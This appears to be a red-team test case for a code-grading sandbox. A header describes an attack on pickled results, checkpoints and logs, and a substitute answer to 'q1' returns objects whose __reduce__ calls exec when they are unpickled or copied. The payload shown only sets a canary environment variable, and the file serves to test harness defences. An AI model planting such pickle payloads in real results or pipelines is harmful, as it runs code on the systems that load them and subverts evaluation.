# ---
# attack: 'Returns objects, bytes and object arrays that run code when they are unpickled or copied.'
# class: 'pickles in results, checkpoints, logs'
# sandboxes: [namespaces, off]
# ---
# %% question="q1"
def double(x):
    return np.asarray(x) - 100

# %% instead="q1"
import pickle


class Bomb:
    def __reduce__(self):
        return exec, ("import os; os.environ['CANARY'] = 'pickled'",)

    def __deepcopy__(self, memo):
        return 4

    __copy__ = __reduce__


def double(x):
    if np.ndim(x) == 0:
        return pickle.dumps(Bomb())
    return np.array([[Bomb()] * 4] * 3, dtype=object)
